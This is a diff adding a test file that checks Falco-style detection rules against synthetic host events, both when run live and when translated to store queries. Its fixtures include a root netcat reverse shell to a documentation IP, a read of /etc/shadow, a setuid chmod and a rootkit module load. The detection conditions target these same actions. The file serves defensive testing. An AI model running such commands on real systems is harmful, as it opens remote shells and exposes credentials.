@@ -1,0 +1,114 @@
+import { describe, expect, it } from 'vitest';
+import { dayStart, event, withEvents } from '../../../../tests/support/event-store.ts';
+import type { EventRow } from '../../../events/event.ts';
+import { eventFormat } from '../../../match/event-format.ts';
+import { loadRuleSet } from './rule-set.ts';
+
+const events = [
+  event('process', {
+    event_action: 'exec',
+    event_outcome: 'success',
+    process_name: 'nc',
+    process_executable: '/usr/bin/nc',
+    process_command_line: 'nc -e /bin/sh 203.0.113.9 4444',
+    process_args: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
+    process_parent_name: 'bash',
+    process_tty: 'pts/0',
+    user_id: 0,
+    user_name: 'root',
+    fields: '{"syscall":"execve","exit":"0"}',
+  }),
+  event('file_access', {
+    event_action: 'read',
+    event_outcome: 'success',
+    file_path: '/etc/shadow',
+    process_name: 'cat',
+    process_command_line: 'cat /etc/shadow',
+    syscall: 'openat',
+    time: dayStart + 1e6,
+  }),
+  event('file_access', {
+    event_action: 'attribute',
+    event_outcome: 'failure',
+    file_path: '/tool',
+    process_name: 'chmod',
+    syscall: 'fchmodat',
+    fields: '{"mode":"suid,sgid,0755","exit":"-1"}',
+  }),
+  event('socket', {
+    event_action: 'connect',
+    event_outcome: 'success',
+    socket_family: 'inet',
+    source_ip: '10.0.0.5',
+    source_port: 40_000,
+    destination_ip: '203.0.113.9',
+    destination_port: 4444,
+    process_name: 'nc',
+    syscall: 'connect',
+  }),
+  event('kernel_module', { event_action: 'load', module_name: 'rootkit', process_name: 'insmod' }),
+  event('log', { message: 'no system call' }),
+];
+
+/** Conditions with the number of the events above that they match. */
+const conditions: readonly (readonly [condition: string, matches: number])[] = [
+  ['evt.type = execve and proc.name = nc and proc.args startswith "-e"', 1],
+  ['evt.type in (openat, openat2) and evt.is_open_read = true and fd.directory = /etc', 1],
+  ['evt.type in (open, openat) and fd.filename = shadow and fd.typechar = f and fd.num >= 0', 1],
+  ['evt.type = fchmodat and evt.arg.mode contains S_ISUID and evt.arg.mode contains S_ISGID', 1],
+  ['evt.type = fchmodat and evt.arg.mode contains S_ISVTX', 0],
+  ['fd.directory = / and evt.rawres < 0 and evt.failed = true', 1],
+  ['evt.type = connect and fd.net = 203.0.113.0/24 and fd.port in (4444) and fd.typechar = 4', 1],
+  ['evt.type = connect and fd.net != 203.0.113.0/24', 0],
+  ['evt.type = connect and fd.ip != 198.51.100.1', 1],
+  ['evt.type = finit_module', 1],
+  ['not proc.aname[3] = sshd and evt.type exists', 5],
+  ['proc.tty != 0 and proc.aname[1] = bash', 1],
+  ['user.uid = 0 and proc.cmdline endswith 4444', 1],
+  ['thread.cap_permitted contains CAP_SYS_ADMIN', 0],
+  ['tolower(proc.name) = nc and len(proc.name) = 2', 2],
+];
+
+const text = conditions
+  .map(
+    ([condition], index) =>
+      `- rule: r${index}\n  desc: d\n  condition: >\n    ${condition}\n  output: o\n  priority: INFO\n  warn_evttypes: false\n`,
+  )
+  .join('\n');
+
+describe('Falco rules over our own events', () => {
+  const set = loadRuleSet([{ path: 'rules.yaml', text }], { options: ['rule_matching=all'] });
+
+  it('load', () => {
+    expect(set.files[0]?.problems).toEqual([]);
+  });
+
+  it('match live what they should', () => {
+    const counts = new Map<string, number>();
+    const runner = set.runner(eventFormat);
+    for (const row of events as unknown as readonly EventRow[]) {
+      for (const { rule } of runner?.judge(row) ?? []) counts.set(rule.id, (counts.get(rule.id) ?? 0) + 1);
+    }
+    expect(conditions.map(([condition], index) => [condition, counts.get(`r${index}`) ?? 0])).toEqual(conditions);
+  });
+
+  it('match in a store what they match live', async () => {
+    const counts = await withEvents(events, async (store) => {
+      const found: number[] = [];
+      for (const rule of set.rules) {
+        let count = 0;
+        for (const { sql } of rule.search(store.macros).queries) count += (await store.query(sql)).length;
+        found.push(count);
+      }
+      return found;
+    });
+    expect(conditions.map(([condition], index) => [condition, counts[index]])).toEqual(conditions);
+  });
+
+  it('tell which field a rule lacks, and only when it cannot do without', () => {
+    const missing = set.rules.map((rule) => rule.missing(eventFormat).map(({ field }) => field));
+    expect(missing.flatMap((fields, index) => (fields.length > 0 ? [[conditions[index]?.[0], fields]] : []))).toEqual([
+      ['thread.cap_permitted contains CAP_SYS_ADMIN', ['thread.cap_permitted']],
+    ]);
+  });
+});
